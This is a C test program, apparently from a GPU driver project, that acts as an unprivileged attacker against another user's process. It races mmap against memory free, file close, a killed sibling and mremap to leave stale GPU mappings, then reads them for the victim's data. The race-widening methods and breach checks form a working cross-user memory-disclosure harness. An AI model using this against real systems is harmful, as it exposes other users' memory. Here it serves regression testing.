/*
 * amdkfd-mc guest test: no CPU mapping survives on a window range that
 * the device can hand to another program (issue 11's four races)
 *
 *   kfd-race [-u UID] [-v UID] [-n ITER] [-s MIB] [-w] free|close|kill|mremap
 *
 * Runs as an unprivileged user (-u, default 65534: root drops to it before
 * opening anything), with a victim program of another user (-v, default
 * 65533) that maps fresh memory objects tagged with a secret.  Each round
 * makes one attempt at leaving a live page table entry on a window range
 * the device considers free, then the victim maps new objects (a first-fit
 * window hands it the lowest free ranges) and the attacker reads every
 * mapping it still has: seeing a victim tag is a breach.
 *
 *   free    mmap() of an object racing FREE_MEMORY_OF_GPU of it from
 *           another thread (FREE sent while the mmap waits for the device)
 *   close   mmap() through a render node racing close() of the /dev/kfd
 *           file whose context it maps
 *   kill    FREE_MEMORY_OF_GPU from a CLONE_VM sibling that is SIGKILLed
 *           while waiting for it; the surviving process keeps the mapping
 *   mremap  a mapping moved with mremap(), a newer mapping made in the
 *           same context, then the moved one unmapped (its close must not
 *           unmap the newer mapping at the same window offset)
 *
 * The races are widened without driver help: the attacker waits until the
 * racing thread sleeps in the driver (state D in /proc) before it strikes,
 * or with -w until it runs again after that; free and close also strike
 * blindly after a random time under 400 us when they saw no sleep.  -s sets the object size
 * (default 8 MiB; larger objects make a slower mmap on some drivers).
 * Prints one line per round that breached, a summary line with how often
 * the strike landed while the other side was waiting, and
 * "kfd-race: MODE: PASS" (exit 0) or "FAIL" (exit 1); 2 on setup errors.
 *
 * Copyright (c) 2026 The amdkfd-mc authors
 *
 * SPDX-License-Identifier: GPL-2.0-or-later
 */
#define _GNU_SOURCE
#include <grp.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include "kfdt.h"

/* Large objects make a slow mmap(): wider races */
static uint64_t obj_size = 8ULL << 20;
#define OBJ_SIZE obj_size
/* The victim maps up to 32 MiB, in at most 4 objects */
#define VICTIM_OBJS 4
#define VICTIM_BYTES (32ULL << 20)
#define TAG_MAGIC   0x5ec7e7ULL

static uint32_t gpu_id;
static unsigned render_minor;
static int to_victim[2], from_victim[2];
static uint64_t next_va = 0x100000000ULL;

static void die(const char *what, int err)
{
    printf("kfd-race: setup: %s: %s\n", what, strerror(err));
    exit(2);
}

static void drop_to(uid_t uid)
{
    if (getuid() != 0) {
        return;
    }
    if (setgroups(0, NULL) || setresgid(uid, uid, uid) ||
        setresuid(uid, uid, uid)) {
        die("dropping privileges", errno);
    }
}

static unsigned topo_render_minor(void)
{
    FILE *f = fopen("/sys/class/kfd/kfd/topology/nodes/1/properties", "r");
    char key[64];
    unsigned long long v;
    unsigned minor = 128;

    if (!f) {
        return minor;
    }
    while (fscanf(f, "%63s %llu", key, &v) == 2) {
        if (!strcmp(key, "drm_render_minor") && v) {
            minor = v;
        }
    }
    fclose(f);
    return minor;
}

/* A /dev/kfd context of this process: 0 or -errno */
static int kfd_open(KfdProc *p)
{
    struct kfd_ioctl_acquire_vm_args vm = { 0 };

    memset(p, 0, sizeof(*p));
    p->pid = getpid();
    p->fd = open("/dev/kfd", O_RDWR | O_CLOEXEC);
    if (p->fd < 0) {
        return -errno;
    }
    p->gpu_id = gpu_id;
    vm.gpu_id = gpu_id;
    return kfdt_ioctl(p, AMDKFD_IOC_ACQUIRE_VM, &vm);
}

/* GTT object, not GPU-mapped: handle and mmap offset */
static int obj_new(KfdProc *p, KfdBuf *b)
{
    struct kfd_ioctl_alloc_memory_of_gpu_args a = {
        .va_addr = next_va, .size = OBJ_SIZE, .gpu_id = p->gpu_id,
        .flags = KFD_IOC_ALLOC_MEM_FLAGS_GTT |
                 KFD_IOC_ALLOC_MEM_FLAGS_WRITABLE,
    };
    int ret = kfdt_ioctl(p, AMDKFD_IOC_ALLOC_MEMORY_OF_GPU, &a);

    memset(b, 0, sizeof(*b));
    next_va += OBJ_SIZE;
    if (next_va >= 0x700000000000ULL) {
        next_va = 0x100000000ULL;
    }
    b->va = a.va_addr;
    b->size = OBJ_SIZE;
    b->handle = a.handle;
    b->mmap_offset = a.mmap_offset;
    return ret;
}

static int obj_free(KfdProc *p, uint64_t handle)
{
    struct kfd_ioctl_free_memory_of_gpu_args a = { .handle = handle };

    return kfdt_ioctl(p, AMDKFD_IOC_FREE_MEMORY_OF_GPU, &a);
}

/* ---- the victim: another user's program mapping tagged objects ---- */

static void victim(uid_t uid)
{
    KfdBuf b[VICTIM_OBJS];
    int nobj = VICTIM_BYTES / OBJ_SIZE;
    unsigned round = 0;
    KfdProc p;
    char c;
    int i, ret;

    nobj = nobj < 1 ? 1 : nobj > VICTIM_OBJS ? VICTIM_OBJS : nobj;
    drop_to(uid);
    ret = kfd_open(&p);
    if (ret) {
        die("victim open", -ret);
    }
    while (read(to_victim[0], &c, 1) == 1) {
        if (c == 'M') {
            round++;
            for (i = 0; i < nobj; i++) {
                uint64_t pg;
                void *cpu;

                if (obj_new(&p, &b[i])) {
                    die("victim alloc", errno);
                }
                cpu = mmap(NULL, OBJ_SIZE, PROT_READ | PROT_WRITE,
                           MAP_SHARED, p.fd, b[i].mmap_offset);
                if (cpu == MAP_FAILED) {
                    die("victim mmap", errno);
                }
                b[i].cpu = cpu;
                for (pg = 0; pg < OBJ_SIZE / KFDT_PAGE; pg++) {
                    *(volatile uint64_t *)(b[i].cpu + pg * KFDT_PAGE) =
                        TAG_MAGIC << 40 | (uint64_t)round << 20 | pg;
                }
            }
        } else if (c == 'U') {
            for (i = 0; i < nobj; i++) {
                munmap((void *)b[i].cpu, OBJ_SIZE);
                obj_free(&p, b[i].handle);
            }
        } else {
            break;
        }
        if (write(from_victim[1], &c, 1) != 1) {
            break;
        }
    }
    _exit(0);
}

static void victim_do(char c)
{
    char r;

    if (write(to_victim[1], &c, 1) != 1 || read(from_victim[0], &r, 1) != 1) {
        die("victim gone", EPIPE);
    }
}

/* ---- scanning the attacker's mappings ---- */

static sigjmp_buf scan_jb;

static void on_sigbus(int sig)
{
    siglongjmp(scan_jb, 1);
}

/*
 * Reads the first word of every page of @cpu: 1 when a victim tag shows,
 * 0 when not, -1 when the mapping is revoked (SIGBUS).
 */
static int scan(volatile uint8_t *cpu, uint64_t size, uint64_t *seen)
{
    static volatile uint64_t pg;

    pg = 0;
    if (sigsetjmp(scan_jb, 1)) {
        return -1;
    }
    for (; pg < size / KFDT_PAGE; pg++) {
        uint64_t w = *(volatile uint64_t *)(cpu + pg * KFDT_PAGE);

        if (w >> 40 == TAG_MAGIC) {
            *seen = w;
            return 1;
        }
    }
    return 0;
}

/* Let the victim map, look through @cpu; 1 on a breach */
static int probe(const char *mode, int round, volatile uint8_t *cpu,
                 int *revoked)
{
    uint64_t seen = 0;
    int r;

    victim_do('M');
    r = scan(cpu, OBJ_SIZE, &seen);
    victim_do('U');
    if (r < 0) {
        (*revoked)++;
    }
    if (r > 0) {
        printf("kfd-race: %s: round %d: BREACH: a stale mapping reads the "
               "victim's tag %#llx\n", mode, round,
               (unsigned long long)seen);
    }
    return r > 0;
}

/* ---- waiting for the other side to sleep in the driver ---- */

/* The state letter of /proc/PID[/task/TID]/stat, read through @fd */
static char task_state(int fd)
{
    char buf[256], *p;
    ssize_t n;

    n = pread(fd, buf, sizeof(buf) - 1, 0);
    if (n <= 0) {
        return 0;
    }
    buf[n] = 0;
    p = strrchr(buf, ')');
    return p && p[1] == ' ' ? p[2] : 0;
}

static int task_stat_open(pid_t pid, pid_t tid)
{
    char path[64];

    if (tid) {
        snprintf(path, sizeof(path), "/proc/%d/task/%d/stat", pid, tid);
    } else {
        snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    }
    return open(path, O_RDONLY | O_CLOEXEC);
}

/* Where to strike: while the other side sleeps, or once it wakes */
static bool strike_on_wake;

static double now_us(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1e6 + t.tv_nsec / 1e3;
}

/*
 * Spin until @tid of @pid sleeps in state D (with strike_on_wake: until
 * it runs again after that): true.  False when it is done first.  With a
 * @budget (microseconds), also true once the budget is spent: a blind
 * strike, which lands at a random point of the other side's path.
 */
static bool wait_d(pid_t pid, pid_t tid, volatile int *done, double budget)
{
    double start = now_us();

    struct timespec t0, t;
    bool slept = false, ret = false;
    int fd = task_stat_open(pid, tid);

    if (fd < 0) {
        return false;
    }
    clock_gettime(CLOCK_MONOTONIC, &t0);
    for (;;) {
        char st = task_state(fd);

        if (st == 'D' && !strike_on_wake) {
            ret = true;
            break;
        }
        if (st == 'D') {
            slept = true;
        } else if (slept && st) {
            ret = true;
            break;
        }
        if ((done && *done) || !st || st == 'Z' || st == 'X') {
            break;
        }
        if (budget > 0 && now_us() - start > budget) {
            ret = true;
            break;
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (t.tv_sec - t0.tv_sec > 3) {
            break;
        }
    }
    close(fd);
    return ret;
}

/* ---- the mmap thread of "free" and "close" ---- */

typedef struct {
    int fd;
    uint64_t offset;
    volatile pid_t tid;
    volatile int done;
    void *cpu;
    int err;
} MapJob;

/* Keeps the two sides of a race on different CPUs, when there are two */
static void pin_to(int cpu)
{
    cpu_set_t set;

    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof(set), &set);
}

static void *map_thread(void *opaque)
{
    MapJob *j = opaque;

    pin_to(1);
    j->tid = syscall(SYS_gettid);
    j->cpu = mmap(NULL, OBJ_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, j->fd,
                  j->offset);
    j->err = j->cpu == MAP_FAILED ? errno : 0;
    j->done = 1;
    return NULL;
}

static void map_start(MapJob *j, pthread_t *th, int fd, uint64_t offset)
{
    memset(j, 0, sizeof(*j));
    j->fd = fd;
    j->offset = offset;
    if (pthread_create(th, NULL, map_thread, j)) {
        die("pthread_create", errno);
    }
    while (!j->tid) {
        sched_yield();
    }
}

/* ---- the modes ---- */

typedef struct {
    int breach, mapped, revoked, struck;
} Tally;

static void round_free(KfdProc *p, int round, Tally *t)
{
    bool struck;
    pthread_t th;
    MapJob j;
    KfdBuf a;

    if (obj_new(p, &a)) {
        die("alloc", errno);
    }
    map_start(&j, &th, p->fd, a.mmap_offset);
    struck = wait_d(p->pid, j.tid, &j.done, rand() % 400);
    t->struck += struck;
    obj_free(p, a.handle);
    pthread_join(th, NULL);
    if (j.err) {
        return;
    }
    t->mapped++;
    if (!struck) {
        /* FREE came after the mmap: the plain path, no race to probe */
        munmap(j.cpu, OBJ_SIZE);
        return;
    }
    t->breach += probe("free", round, j.cpu, &t->revoked);
    munmap(j.cpu, OBJ_SIZE);
}

static void round_close(int rfd, int round, Tally *t)
{
    bool struck;
    pthread_t th;
    KfdProc p;
    MapJob j;
    KfdBuf a;
    int ret;

    ret = kfd_open(&p);
    if (ret) {
        die("open", -ret);
    }
    if (obj_new(&p, &a)) {
        die("alloc", errno);
    }
    map_start(&j, &th, rfd, a.mmap_offset);
    struck = wait_d(p.pid, j.tid, &j.done, rand() % 400);
    t->struck += struck;
    close(p.fd);
    pthread_join(th, NULL);
    if (j.err) {
        return;
    }
    t->mapped++;
    if (!struck) {
        munmap(j.cpu, OBJ_SIZE);
        return;
    }
    t->breach += probe("close", round, j.cpu, &t->revoked);
    munmap(j.cpu, OBJ_SIZE);
}

typedef struct {
    int fd;
    uint64_t handle;
} FreeJob;

static int free_child(void *opaque)
{
    FreeJob *f = opaque;
    struct kfd_ioctl_free_memory_of_gpu_args a = { .handle = f->handle };
    cpu_set_t set;

    CPU_ZERO(&set);
    CPU_SET(1, &set);
    syscall(SYS_sched_setaffinity, 0, sizeof(set), &set);
    syscall(SYS_ioctl, f->fd, AMDKFD_IOC_FREE_MEMORY_OF_GPU, &a);
    syscall(SYS_exit, 0);
    return 0;
}

static void round_kill(KfdProc *p, int round, Tally *t)
{
    static char stack[64 * 1024] __attribute__((aligned(16)));
    FreeJob f;
    KfdBuf a;
    pid_t pid;
    void *cpu;
    int status;

    if (obj_new(p, &a)) {
        die("alloc", errno);
    }
    cpu = mmap(NULL, OBJ_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, p->fd,
               a.mmap_offset);
    if (cpu == MAP_FAILED) {
        die("mmap", errno);
    }
    memset(cpu, 0x11, KFDT_PAGE);
    f.fd = p->fd;
    f.handle = a.handle;
    /* Shares our mm (so the mapping), not our files or signals */
    pid = clone(free_child, stack + sizeof(stack), CLONE_VM | SIGCHLD, &f);
    if (pid < 0) {
        die("clone", errno);
    }
    if (wait_d(pid, 0, NULL, 0)) {
        t->struck++;
        kill(pid, SIGKILL);
    }
    waitpid(pid, &status, 0);
    /* Killed before it sent the FREE: free it here (else EINVAL) */
    obj_free(p, a.handle);
    t->mapped++;
    t->breach += probe("kill", round, cpu, &t->revoked);
    munmap(cpu, OBJ_SIZE);
}

static void round_mremap(KfdProc *p, int round, Tally *t)
{
    volatile uint8_t *m1, *m1b, *m2;
    void *hole;
    KfdBuf a, b;
    uint64_t seen = 0;

    if (obj_new(p, &a) || obj_new(p, &b)) {
        die("alloc", errno);
    }
    m1 = mmap(NULL, OBJ_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, p->fd,
              a.mmap_offset);
    if (m1 == MAP_FAILED) {
        die("mmap", errno);
    }
    memset((void *)m1, 0xa1, KFDT_PAGE);
    /* A free place to move it to */
    hole = mmap(NULL, OBJ_SIZE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1,
                0);
    m1b = mremap((void *)m1, OBJ_SIZE, OBJ_SIZE,
                 MREMAP_MAYMOVE | MREMAP_FIXED, hole);
    if (m1b == MAP_FAILED) {
        /* Refusing to move is safe too */
        printf("kfd-race: mremap: round %d: mremap refused (%s)\n", round,
               strerror(errno));
        munmap(hole, OBJ_SIZE);
        munmap((void *)m1, OBJ_SIZE);
        obj_free(p, a.handle);
        obj_free(p, b.handle);
        return;
    }
    m2 = mmap(NULL, OBJ_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, p->fd,
              b.mmap_offset);
    if (m2 == MAP_FAILED) {
        die("mmap of the second object", errno);
    }
    memset((void *)m2, 0xb2, KFDT_PAGE);
    if (m1b[0] != 0xa1) {
        printf("kfd-race: mremap: round %d: the moved mapping shows %#x, "
               "not its object's 0xa1\n", round, m1b[0]);
        t->breach++;
    }
    /* Unmapping the moved mapping must leave the newer one alone */
    munmap((void *)m1b, OBJ_SIZE);
    if (scan(m2, KFDT_PAGE, &seen) == 0 && m2[0] != 0xb2) {
        printf("kfd-race: mremap: round %d: the newer mapping lost its "
               "object (reads %#x)\n", round, m2[0]);
        t->breach++;
    }
    t->mapped++;
    t->breach += probe("mremap", round, m2, &t->revoked);
    munmap((void *)m2, OBJ_SIZE);
    obj_free(p, a.handle);
    obj_free(p, b.handle);
}

int main(int argc, char **argv)
{
    uid_t uid = 65534, vuid = 65533;
    const char *mode;
    int iters = 0, i, opt, rfd = -1;
    Tally t = { 0 };
    KfdProc p;
    pid_t vpid;
    int ret;

    setvbuf(stdout, NULL, _IOLBF, 0);
    while ((opt = getopt(argc, argv, "u:v:n:s:w")) != -1) {
        switch (opt) {
        case 's':
            obj_size = strtoull(optarg, NULL, 0) << 20;
            break;
        case 'w':
            strike_on_wake = true;
            break;
        case 'u':
            uid = atoi(optarg);
            break;
        case 'v':
            vuid = atoi(optarg);
            break;
        case 'n':
            iters = atoi(optarg);
            break;
        default:
            goto usage;
        }
    }
    if (optind + 1 != argc) {
        goto usage;
    }
    mode = argv[optind];
    if (strcmp(mode, "free") && strcmp(mode, "close") &&
        strcmp(mode, "kill") && strcmp(mode, "mremap")) {
        goto usage;
    }
    if (!iters) {
        iters = !strcmp(mode, "mremap") ? 4 : !strcmp(mode, "kill") ? 40 : 60;
    }
    gpu_id = kfdt_first_gpu_id();
    render_minor = topo_render_minor();
    if (!gpu_id) {
        die("no GPU node in the topology", ENODEV);
    }
    if (pipe(to_victim) || pipe(from_victim)) {
        die("pipe", errno);
    }
    vpid = fork();
    if (vpid == 0) {
        close(to_victim[1]);
        close(from_victim[0]);
        victim(vuid);
    }
    close(to_victim[0]);
    close(from_victim[1]);
    drop_to(uid);
    printf("kfd-race: %s: attacker uid %d, victim uid %d, %d rounds\n", mode,
           (int)getuid(), (int)vuid, iters);

    ret = kfd_open(&p);
    if (ret) {
        die("open /dev/kfd", -ret);
    }
    if (!strcmp(mode, "close")) {
        char path[64];

        snprintf(path, sizeof(path), "/dev/dri/renderD%u", render_minor);
        rfd = open(path, O_RDWR | O_CLOEXEC);
        if (rfd < 0) {
            die(path, errno);
        }
        /* The context of each round is the newest: close the first one */
        close(p.fd);
    }
    signal(SIGBUS, on_sigbus);
    srand(getpid());
    pin_to(0);
    for (i = 0; i < iters; i++) {
        if (!strcmp(mode, "free")) {
            round_free(&p, i, &t);
        } else if (!strcmp(mode, "close")) {
            round_close(rfd, i, &t);
        } else if (!strcmp(mode, "kill")) {
            round_kill(&p, i, &t);
        } else {
            round_mremap(&p, i, &t);
        }
    }
    close(to_victim[1]);
    waitpid(vpid, NULL, 0);
    printf("kfd-race: %s: %d rounds, struck while the other side was in "
           "the driver %d, mapping kept %d (revoked %d), breaches %d\n",
           mode, iters, t.struck, t.mapped, t.revoked, t.breach);
    printf("kfd-race: %s: %s\n", mode, t.breach ? "FAIL" : "PASS");
    return t.breach ? 1 : 0;

usage:
    fprintf(stderr, "usage: kfd-race [-u UID] [-v UID] [-n ITER] [-s MIB] "
            "[-w] free|close|kill|mremap\n");
    return 2;
}
